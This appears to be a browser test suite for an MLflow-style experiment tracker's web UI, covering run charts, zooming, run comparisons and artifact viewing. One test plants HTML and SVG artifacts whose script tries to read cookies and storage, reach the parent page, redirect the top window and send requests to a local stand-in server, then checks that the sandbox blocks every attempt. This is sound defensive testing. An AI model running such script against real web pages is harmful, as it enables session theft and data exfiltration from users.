import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { beforeAll, expect, it } from "vitest";
import { base, look, project, settled, visit, withBrowser } from "./browser";

withBrowser();

// The demo's runs have one value of each metric; these have histories, files and a search.
const api = `${base}/p/${project}/api/2.0`;

async function send(method: string, path: string, body?: unknown, raw?: string | Uint8Array) {
  const got = await fetch(`${api}${path}`, {
    method,
    headers: {
      "content-type": raw === undefined ? "application/json" : "application/octet-stream",
    },
    ...(raw === undefined
      ? body === undefined
        ? {}
        : { body: JSON.stringify(body) }
      : { body: raw as BodyInit }),
  });
  const text = await got.text();
  if (!got.ok) throw new Error(`${method} ${path}: ${got.status} ${text}`);
  return (raw === undefined && text !== "" ? JSON.parse(text) : {}) as Record<string, never>;
}

const log = (
  run: string,
  metrics: { key: string; value: number | string; step: number }[],
  at: number,
) =>
  send("POST", "/mlflow/runs/log-batch", {
    run_id: run,
    metrics: metrics.map((m) => ({ ...m, timestamp: at + m.step * 1000 })),
  });

const script = "<p id=p>no script</p><script>p.textContent = 'drawn; origin ' + origin</script>";
// A picture of one pixel.
const pixel = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

let experiment = "";
const runs: string[] = [];
let going = "";

async function begin(name: string, params: Record<string, string>, start: number): Promise<string> {
  const made = await send("POST", "/mlflow/runs/create", {
    experiment_id: experiment,
    run_name: name,
    start_time: start,
    tags: [
      { key: "mlflow.source.name", value: "train.py" },
      { key: "mlflow.source.git.commit", value: "9f2c1a7be0d94c35b1a1c5e0c4b8f3b2a6d7e8f9" },
    ],
  });
  const id = (made as unknown as { run: { info: { run_id: string } } }).run.info.run_id;
  await send("POST", "/mlflow/runs/log-batch", {
    run_id: id,
    params: Object.entries(params).map(([key, value]) => ({ key, value })),
  });
  return id;
}

beforeAll(async () => {
  const made = await send("POST", "/mlflow/experiments/create", { name: `story ${Date.now()}` });
  experiment = (made as unknown as { experiment_id: string }).experiment_id;
  const start = Date.now() - 3_600_000;
  for (const [i, rate] of ["0.1", "0.01", "0.001"].entries()) {
    const run = await begin(`story-${i}`, { rate, depth: String(i + 2), algorithm: "net" }, start);
    const steps = Array.from({ length: 300 }, (_, s) => s);
    await log(
      run,
      steps.flatMap((step) => [
        { key: "train/loss", value: 1 / (1 + step * Number(rate)), step },
        { key: "auc", value: step === 7 ? "NaN" : 1 - 0.5 / (1 + step / (i + 1)), step },
      ]),
      start,
    );
    const put = (path: string, raw: string | Uint8Array) =>
      send(
        "PUT",
        `/mlflow-artifacts/artifacts/${experiment}/${run}/artifacts/${path}`,
        undefined,
        raw,
      );
    await put("plots/picture.png", pixel);
    await put("report.html", script);
    await put("rows.csv", `n,name\n${steps.map((s) => `${s},row ${s}`).join("\n")}\n`);
    await put("train.log", "first line\nlast line\n");
    await send("POST", "/mlflow/runs/update", {
      run_id: run,
      status: "FINISHED",
      end_time: start + 300_000,
    });
    runs.push(run);
  }
  going = await begin("story-going", { rate: "0.5" }, Date.now());
  await log(
    going,
    [
      { key: "loss", value: 2, step: 0 },
      { key: "loss", value: 1, step: 1 },
    ],
    Date.now(),
  );
  return () => send("POST", "/mlflow/experiments/delete", { experiment_id: experiment });
});

const page = (run: string | undefined, search = "") =>
  `/p/${project}/experiments/${experiment}/runs/${run}${search}`;
const compared = (search = "") => `/p/${project}/compare?runs=${runs.join(",")}${search}`;

it("shows a run's charts, and all else of it", async () => {
  await look("run-charts", page(runs[0]), (p) => p.waitForSelector("canvas"));
  await look("run-overview", page(runs[0], "?tab=overview"));
  await look("run-artifacts", page(runs[0], "?tab=artifacts&path=rows.csv"));
  await look("run-logs", page(runs[0], "?tab=logs"));
}, 120_000);

it("compares runs", async () => {
  await look("compare-charts", compared("&smooth=60"), (p) => p.waitForSelector("canvas"));
  for (const tab of ["table", "parallel", "scatter"]) {
    await look(`compare-${tab}`, compared(`&tab=${tab}`));
  }
  await look("compare-artifacts", compared("&tab=artifacts&path=plots/"));
}, 180_000);

it("zooms by the mouse, by keys and by fingers, and keeps it in the address", async () => {
  const v = await visit(page(runs[0], "?find=auc"));
  const plot = v.page.locator(".u-over");
  await plot.waitFor();
  const box = await plot.boundingBox();
  if (!box) throw new Error("no plot");
  await v.page.mouse.move(box.x + 100, box.y + 50);
  await v.page.mouse.down();
  await v.page.mouse.move(box.x + 300, box.y + 50, { steps: 5 });
  await v.page.mouse.up();
  await v.page.waitForURL(/zoom=/);
  await v.page.getByRole("button", { name: "Show all" }).click();
  await v.page.waitForURL((url) => !url.search.includes("zoom"));
  await v.page.getByRole("application", { name: /^auc/ }).focus();
  await v.page.keyboard.press("End");
  await v.page.getByText(/^299: story-0 0\.9/).waitFor({ state: "attached" });
  await v.page.keyboard.press("+");
  await v.page.waitForURL(/zoom=/);
  await settled(v.page);
  await v.page.keyboard.press("Home"); // the first point in sight
  await v.page.getByText(/^2\d\d: story-0 0\.9/).waitFor({ state: "attached" });
  await v.page.keyboard.press("0");
  await v.page.waitForURL((url) => !url.search.includes("zoom"));
  // Two fingers pull the middle apart, and one points.
  const touch = await v.page.context().newCDPSession(v.page);
  await touch.send("Emulation.setTouchEmulationEnabled", { enabled: true, maxTouchPoints: 2 });
  const now = await plot.boundingBox();
  const fingers = (type: "touchStart" | "touchMove" | "touchEnd", ...shares: number[]) =>
    touch.send("Input.dispatchTouchEvent", {
      type,
      touchPoints: shares.map((share, id) => ({
        x: (now?.x ?? 0) + share * (now?.width ?? 0),
        y: (now?.y ?? 0) + 50,
        id,
      })),
    });
  await fingers("touchStart", 0.4, 0.6);
  for (const apart of [0.15, 0.2, 0.25, 0.3]) await fingers("touchMove", 0.5 - apart, 0.5 + apart);
  await fingers("touchEnd");
  await v.page.waitForURL(/zoom=(9|10)\d?\.\d+%7E(19|20)\d\.\d+/);
  await fingers("touchStart", 0.4);
  await fingers("touchMove", 0.45);
  await fingers("touchMove", 0.5);
  await v.page.getByText(/^1[45]\d$/).waitFor();
  await fingers("touchEnd");
  await v.page.getByRole("button", { name: "Show all" }).click();
  await v.page.getByRole("button", { name: "Show as a table: auc" }).click();
  await v.page.getByRole("button", { name: "Show more of 300 rows" }).click();
  await v.page.getByRole("group", { name: "auc" }).getByText("299").waitFor();
  expect(v.troubles).toEqual([]);
  await v.close();
});

it("says how many points are no numbers", async () => {
  const v = await visit(page(runs[0], "?find=auc"));
  await v.page.getByText("1 NaN").waitFor();
  await v.close();
});

it("draws what a run logs, and its end", async () => {
  const v = await visit(page(going));
  await v.page.locator("canvas").waitFor();
  await settled(v.page);
  await v.page.getByRole("button", { name: "Show as a table: loss" }).click();
  await v.page.getByRole("cell", { name: "2", exact: true }).first().waitFor();
  await log(going, [{ key: "loss", value: 0.25, step: 2 }], Date.now());
  await v.page.getByRole("cell", { name: "0.25" }).waitFor();
  await send("POST", "/mlflow/runs/update", {
    run_id: going,
    status: "FINISHED",
    end_time: Date.now(),
  });
  await v.page.getByText("finished").waitFor();
  expect(v.troubles).toEqual([]);
  await v.close();
});

it("runs a page of an artifact without an origin, and shows its source", async () => {
  const v = await visit(page(runs[0], "?tab=artifacts&path=report.html"));
  await v.page.frameLocator("iframe").getByText("drawn; origin null").waitFor();
  await v.page.getByText("Source", { exact: true }).click();
  await v.page.getByText("<script>p.textContent").waitFor();
  expect(v.troubles).toEqual([]);
  await v.close();
});

// What a page, or a picture, of somebody else could do to the reader, and to the program.
const hostile = (out: string) => `<h1 id=h></h1><form id=f action="${out}/form" method=post></form>
<img src="${out}/picture"><link rel=stylesheet href="${out}/style"><script>
const say = (what) => (h.textContent += what + "; ");
for (const [name, act] of Object.entries({
  cookie: () => document.cookie, kept: () => localStorage.length, around: () => parent.document.title,
  top: () => (top.location = "${out}/top"), opened: () => open("${out}/window").name,
})) try { act(); say(name + " went through"); } catch (err) { say(name + " refused"); }
f.submit();
fetch("/api/v1/projects").then(() => say("asked"), () => say("fetch refused"));
fetch("${out}/data").then(() => say("sent"), () => say("sending refused"));
</script><button onclick="location = '${out}/self'">leave</button>`;

it("lets what an artifact runs reach neither the program nor the network", async () => {
  const reached: string[] = [];
  const server = createServer((req, res) => {
    reached.push(req.url ?? "");
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("reached");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const out = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const put = (path: string, raw: string) =>
    send(
      "PUT",
      `/mlflow-artifacts/artifacts/${experiment}/${runs[0]}/artifacts/${path}`,
      undefined,
      raw,
    );
  const content = (path: string) =>
    `/api/v1/projects/${project}/artifacts/content?run=${runs[0]}&path=${path}`;
  await put("hostile.html", hostile(out));
  await put(
    "hostile.svg",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${out}/svg"/><script>
     document.documentElement.setAttribute("data-ran", "1"); fetch("${out}/script");</script></svg>`,
  );
  const v = await visit(page(runs[0], "?tab=artifacts&path=hostile.html"));
  const frame = v.page.frameLocator("iframe");
  await frame.getByText(/opened refused.*sending refused/).waitFor();
  expect(await frame.locator("h1").textContent()).not.toMatch(/through|asked|sent/);
  await frame.getByText("leave").click();
  await expect.poll(() => v.troubles.join()).toContain("frame-src");
  await v.page.goto(base + page(runs[0], "?tab=artifacts&path=hostile.svg"));
  await v.page.getByText("9 × 9").waitFor();
  await v.page.goto(base + content("hostile.svg"));
  expect(await v.page.evaluate(() => document.documentElement.hasAttribute("data-ran"))).toBe(
    false,
  );
  await v.page.goto(base + content("hostile.html"));
  expect(await v.page.evaluate(() => document.contentType)).toBe("text/plain");
  expect(new URL(v.page.url()).origin).toBe(base);
  expect(reached).toEqual([]);
  await v.close();
  await new Promise((done) => server.close(done));
});

it("goes through files and pages of a table", async () => {
  const v = await visit(page(runs[0], "?tab=artifacts"));
  await v.page.getByRole("button", { name: /rows\.csv/ }).click();
  await v.page.getByRole("cell", { name: "row 99", exact: true }).waitFor();
  await v.page.getByRole("button", { name: "Show more" }).click();
  await v.page.getByRole("cell", { name: "row 199", exact: true }).waitFor();
  await v.page.getByRole("button", { name: "plots" }).click();
  await v.page.getByRole("button", { name: /picture\.png/ }).click();
  await v.page.getByRole("img", { name: "picture.png" }).waitFor();
  await v.page.getByText("1 × 1").waitFor();
  await v.close();
});

it("compares: what differs, the front, and a run left out", async () => {
  const v = await visit(compared("&tab=table"));
  const table = v.page.getByRole("region", { name: "Differences of the runs" });
  await table.getByRole("row", { name: /^rate/ }).waitFor();
  await settled(v.page);
  expect(await table.getByRole("row", { name: /^algorithm/ }).count()).toBe(0);
  await v.page.getByRole("switch", { name: "Also what is the same" }).click();
  await table.getByRole("row", { name: /^algorithm/ }).waitFor();
  await v.page.getByRole("tab", { name: "Scatter" }).click();
  await v.page
    .getByRole("link", { name: /on the Pareto front/ })
    .first()
    .waitFor();
  await v.page.getByRole("button", { name: "Leave out story-2" }).click();
  await v.page.getByRole("heading", { name: "Compare 2 runs" }).waitFor();
  await v.page.getByRole("combobox", { name: "Add a run" }).selectOption({ label: "story-going" });
  await v.page.getByRole("heading", { name: "Compare 3 runs" }).waitFor();
  await v.page.getByRole("tab", { name: "Parallel coordinates" }).click();
  await v.page.getByRole("slider", { name: "Runs kept along depth" }).press("ArrowDown");
  await v.page.getByText(/^1 of 3 pass: story-0/).waitFor();
  await v.page.waitForURL(/kept=/);
  await v.page.reload();
  await v.page.getByText(/^1 of 3 pass: story-0/).waitFor();
  expect(v.troubles).toEqual([]);
  await v.close();
});

it("moves a run to the trash and back", async () => {
  const v = await visit(page(going, "?tab=overview"));
  await v.page.getByRole("button", { name: "Delete" }).click();
  await v.page.getByText("in the trash", { exact: true }).waitFor();
  await v.page.getByRole("button", { name: "Undo" }).click();
  await v.page.getByRole("button", { name: "Delete" }).waitFor();
  expect(v.troubles).toEqual([]);
  await v.close();
});

it("leads from a run's id, and from MLflow's links, to its page", async () => {
  for (const from of [
    `/p/${project}/runs/${runs[0]}`,
    `/p/${project}/#/experiments/${experiment}/runs/${runs[0]}`,
  ]) {
    const v = await visit(from);
    await v.page.getByRole("heading", { name: "story-0" }).waitFor();
    await expect.poll(() => new URL(v.page.url()).pathname).toBe(page(runs[0]));
    await v.close();
  }
  const v = await visit(page("none"));
  await v.page.getByText("Run with id=none not found").waitFor();
  await v.close();
});
